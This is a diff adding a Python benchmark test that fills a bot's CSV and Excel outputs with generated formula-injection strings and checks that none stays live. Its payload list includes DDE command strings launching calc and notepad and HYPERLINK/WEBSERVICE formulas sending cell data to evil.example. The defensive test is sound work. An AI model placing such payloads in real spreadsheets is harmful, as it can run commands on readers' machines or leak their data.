@@ -1,0 +1,129 @@
+"""R17: hostile words in every file that is made, read again as a spreadsheet would read it."""
+
+import csv
+import io
+import random
+import re
+import tempfile
+import zipfile
+from collections.abc import Iterator, Mapping
+from functools import partial
+from pathlib import Path
+from xml.etree import ElementTree
+
+from bench.bars import Bar, Result, share
+from bot.commands.template import template
+from bot.documents import delimited, workbooks
+from bot.making.work import MAKES
+from domain.operations.imports import Changes, Entry
+from domain.people.organisations import Organisation, OrganisationKind
+from domain.people.people import Appointment, Role
+from storage.engine.database import Database
+from storage.store import Store
+from tests import databases
+from tests.make import NOW, TODAY
+from tests.seed import DOMAIN
+
+STRINGS, COLUMNS, WIDTHS = 10_000, 10, 20
+# What makes a cell a formula: OWASP's list, with the wide forms that a Japanese Excel takes.
+LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
+BEFORE = ("", "", "", "", '"', "'", ",", '",', ";", "\ufeff", "\x0b", "\x1f", "\ud800", "\u200b")
+BODIES = (
+    *("1+1", "A1", "SUM(A1:A9)*cmd|' /C calc'!A0", "cmd|' /C notepad'!'A1'", "1\n=2+3", "1\r=2+3"),
+    *('HYPERLINK("http://evil.example?x="&A1,"Open")', 'WEBSERVICE("http://evil.example")', ""),
+    *("<f>1+1</f>", '</t></is></c><c r="A1"><f>1</f>', "]]>", "&#61;1+1", "_x003D_1", '","=1+1'),
+)
+# The formulas that a start sheet has of its own: where its drop-downs lie, and bounds of numbers.
+OWN = re.compile(r"Lists!\$[AB]\$1:\$[AB]\$\d+|\d+")
+# Parts and elements with which a workbook reaches outside itself, or counts for itself.
+OUTSIDE = ("externallink", "vbaproject", "macrosheet", "connections", "querytable", "embeddings")
+COUNTS = ("f", "ddeLink", "oleLink", "hyperlink", "definedName", "webPublishItem")
+
+
+def run(size: float, seed: int) -> Result:
+    """Each string in a cell of each file that can be made."""
+    strings = hostile(share(STRINGS, size), random.Random(seed))
+    live = {name: _live(name, content) for name, content in _made(strings)}
+    files, found = len(live), {name: cells for name, cells in live.items() if cells}
+    told = "; ".join(f"{name}: {len(cells)}, {cells[0]!r}" for name, cells in found.items())
+    seen = f"{len(strings)} strings in {files} kinds of file: {sum(map(len, found.values()))} live"
+    return Result(f"{seen} ({told})" if told else seen, not found and files >= len(MAKES) + 4)
+
+
+def hostile(count: int, dice: random.Random) -> list[str]:
+    """So many strings that a spreadsheet could take for a formula."""
+    return [
+        dice.choice(BEFORE) + dice.choice(LIVE) + dice.choice(BODIES) + str(dice.randrange(1_000))
+        for _ in range(count)
+    ]
+
+
+def _made(strings: list[str]) -> Iterator[tuple[str, bytes]]:
+    """Every kind of file that the bot and its command line make, filled with them."""
+    header, *rows = (strings[at : at + COLUMNS] for at in range(0, len(strings), COLUMNS))
+    yield "table.csv", delimited.write(header, rows)
+    yield "table.xlsx", workbooks.write(header, rows)
+    widths: Mapping[str, int] = dict.fromkeys(header, WIDTHS)
+    yield "list.xlsx", workbooks.list_workbook(widths, rows, "List")
+    with tempfile.TemporaryDirectory() as folder:
+        database = databases.started(Path(folder))
+        database.write_now(lambda store: store.imports.write(_named(strings), NOW))
+        yield "start.xlsx", _start_sheet(database, Path(folder) / "start.xlsx")
+        for kind, read in MAKES.items():
+            document = database.read_now(partial(read, NOW))()
+            yield f"{kind}: {document.name}", document.content
+        database.close()
+
+
+def _named(strings: list[str]) -> Changes:
+    """People, schools and trusts with these names, as far as the database takes them."""
+    kinds = (OrganisationKind.SCHOOL, OrganisationKind.TRUST)
+    told = [text.encode("utf-8", "replace").decode().replace("\0", "") for text in strings]
+    places = tuple(
+        Organisation(-n, kinds[n % 2], text, urn=100_000 + n, town=text)
+        for n, text in enumerate(told, 1)
+    )
+    people = tuple(
+        Entry(-n, f"{n}@{DOMAIN}", text, frozenset({Appointment(Role.LEADER, -n)}))
+        for n, text in enumerate(told, 1)
+    )
+    return Changes(organisations=places, people=people)
+
+
+def _start_sheet(database: Database[Store], path: Path) -> bytes:
+    template(database, path, TODAY, lambda _sentence: None)
+    return path.read_bytes()
+
+
+def _live(name: str, content: bytes) -> list[str]:
+    return live_in_csv(content) if name.endswith(".csv") else live_in_workbook(content)
+
+
+def live_in_csv(content: bytes) -> list[str]:
+    """The cells that a spreadsheet would count."""
+    text = content.decode("utf-8-sig", "replace")
+    rows = csv.reader(io.StringIO(text, newline=""))
+    return [cell for row in rows for cell in row if cell.startswith(LIVE)]
+
+
+def live_in_workbook(content: bytes) -> list[str]:
+    """What a spreadsheet would count or fetch: formulas, links, parts of other programs."""
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        names = parts.namelist()
+        trees = [ElementTree.fromstring(parts.read(n)) for n in names if n.endswith(".xml")]
+        links = [n for n in names if n.endswith(".rels") and b'"External"' in parts.read(n)]
+    found = links + [name for name in names if any(word in name.lower() for word in OUTSIDE)]
+    for element in (each for tree in trees for each in tree.iter()):
+        tag = element.tag.rpartition("}")[2]
+        counts = tag in COUNTS or element.get("t") == "str"
+        if counts or (tag.startswith("formula") and not OWN.fullmatch(element.text or "")):
+            found.append(f"{tag} {element.text or ''}"[:80])
+    return found
+
+
+BAR = Bar(
+    "R17",
+    "10,000 strings that a spreadsheet could count, in every CSV file and workbook that is made",
+    "0 live formulas",
+    run,
+)
